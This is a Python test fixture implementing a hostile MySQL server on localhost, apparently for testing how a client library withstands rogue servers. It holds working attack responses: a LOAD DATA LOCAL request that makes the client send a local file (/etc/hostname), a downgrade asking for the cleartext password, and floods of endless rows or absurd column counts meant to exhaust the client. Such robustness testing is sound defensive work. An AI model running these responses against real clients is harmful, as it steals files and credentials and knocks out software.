"""A MySQL server that means harm. It greets, lets anybody in, and answers the first statement in a way of its own.

with HostileServer(answer=ask_for_a_file) as server: …   `server.heard` holds every packet that the client sent.
"""

import socket
import threading
from collections.abc import Callable
from typing import Self

GREETING = (
    b"\x0a8.0.36\x00" + b"\x01\x00\x00\x00" + b"12345678\x00" + b"\xff\xf7" + b"\x21" + b"\x02\x00" + b"\xff\x81"
    b"\x15" + b"\x00" * 10 + b"123456789012\x00" + b"mysql_native_password\x00"
)
OK = b"\x00\x00\x00\x02\x00\x00\x00"
EOF = b"\xfe\x00\x00\x02\x00"
FILE = b"/etc/hostname"
LARGEST = 0xFFFFFF  # bytes of one packet; longer ones are sent in parts


class Conversation:
    """One client. `send` numbers the packets; `read` returns the next one of the client, b"" when it is gone."""

    def __init__(self, connection: socket.socket, heard: list[bytes]) -> None:
        self.connection, self._heard, self._number = connection, heard, 0
        self.last = b""

    def send(self, payload: bytes) -> None:
        self.connection.sendall(len(payload).to_bytes(3, "little") + bytes([self._number % 256]) + payload)
        self._number += 1

    def raw(self, text: bytes) -> None:
        self.connection.sendall(text)

    def read(self) -> bytes:
        head = self._exactly(4)
        if len(head) < 4:
            return b""
        self._number = head[3] + 1
        self.last = self._exactly(int.from_bytes(head[:3], "little"))
        self._heard.append(self.last)
        return self.last

    def _exactly(self, length: int) -> bytes:
        found = b""
        while len(found) < length and (part := self.connection.recv(length - len(found))):
            found += part
        return found


Answer = Callable[[Conversation], None]


class HostileServer:
    """`greet`: what is sent instead of the greeting. `answer`: what follows the first statement after the login."""

    def __init__(self, *, answer: Answer | None = None, greet: Answer | None = None) -> None:
        self.heard: list[bytes] = []
        self._answer, self._greet = answer, greet
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._thread = threading.Thread(target=self._serve)

    @property
    def port(self) -> int:
        return int(self._listener.getsockname()[1])

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_error: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:  # the test is over
                return
            with connection:
                connection.settimeout(1)
                try:
                    self._talk(Conversation(connection, self.heard))
                except OSError:
                    continue  # the client hung up, which is what we want to see

    def _talk(self, client: Conversation) -> None:
        if self._greet:
            self._greet(client)
            return
        client.send(GREETING)
        client.read()
        client.send(OK)
        while client.read():
            (self._answer or nothing)(client)


def nothing(client: Conversation) -> None:
    client.send(OK)


def ask_for_a_file(client: Conversation) -> None:
    """What LOAD DATA LOCAL makes a server ask, although nobody loads anything."""
    client.send(b"\xfb" + FILE)
    client.read()  # the file, from a client that obeys
    client.send(OK)


def ask_for_the_password(client: Conversation) -> None:
    client.send(b"\xfemysql_clear_password\x00\x00")
    client.read()
    client.send(OK)


def greet_and_ask_for_the_password(client: Conversation) -> None:
    client.send(GREETING)
    client.read()
    ask_for_the_password(client)


def send_garbage(client: Conversation) -> None:
    client.raw(bytes(range(256)) * 64)
    client.connection.close()


def announce_absurdly_many_columns(client: Conversation) -> None:
    client.send(b"\xfe" + (2**63).to_bytes(8, "little"))
    for _ in range(10_000):
        client.send(column(b"c"))


def announce_many_columns(client: Conversation) -> None:
    client.send(b"\xfe" + (2**31).to_bytes(8, "little"))
    for _ in range(10_000):
        client.send(column(b"c"))


def announce_a_value_longer_than_its_row(client: Conversation) -> None:
    client.send(b"\x01")
    client.send(column(b"c"))
    client.send(EOF)
    client.send(b"\xfe" + (2**40).to_bytes(8, "little") + b"short")
    client.send(EOF)


def send_rows_without_end(client: Conversation) -> None:
    client.send(b"\x01")
    client.send(column(b"c"))
    client.send(EOF)
    while True:
        client.send(b"\xfd" + (60_000).to_bytes(3, "little") + b"x" * 60_000)


def send_one_row_without_end(client: Conversation) -> None:
    """A packet of full length says that another part follows; these never end."""
    client.send(b"\x01")
    client.send(column(b"c"))
    client.send(EOF)
    first = b"\xfe" + (2**40).to_bytes(8, "little")
    client.send(first + b"x" * (LARGEST - len(first)))
    while True:
        client.send(b"x" * LARGEST)


def send_results_without_end(client: Conversation) -> None:
    """Every result says that another one follows."""
    while True:
        client.send(b"\x00\x00\x00\x0a\x00\x00\x00")


def column(name: bytes) -> bytes:
    def text(value: bytes) -> bytes:
        return bytes([len(value)]) + value

    parts = text(b"def") + text(b"s") + text(b"t") + text(b"t") + text(name) + text(name)
    return parts + b"\x0c\x21\x00\xff\xff\x00\x00\xfd\x00\x00\x00\x00\x00"


def once_it_is_trusted(attack: Answer) -> Answer:
    """Answers like a server until everything about the session is set; then, asked to `SELECT 1`, attacks."""

    def answer(client: Conversation) -> None:
        asked = client.last[1:].strip().upper()
        if asked.startswith(b"SELECT 1"):
            attack(client)
        elif asked.startswith(b"SELECT"):
            rows(client, [b"8.0.36", b"", b"InnoDB", b"0", b"0", b"1"])
        elif asked.startswith(b"SHOW"):
            rows(client, [b"Ssl_cipher", b""])
        else:
            client.send(OK)

    return answer


def rows(client: Conversation, values: list[bytes]) -> None:
    """One row of short texts."""
    client.send(bytes([len(values)]))
    for number in range(len(values)):
        client.send(column(b"c%d" % number))
    client.send(EOF)
    client.send(b"".join(bytes([len(value)]) + value for value in values))
    client.send(EOF)
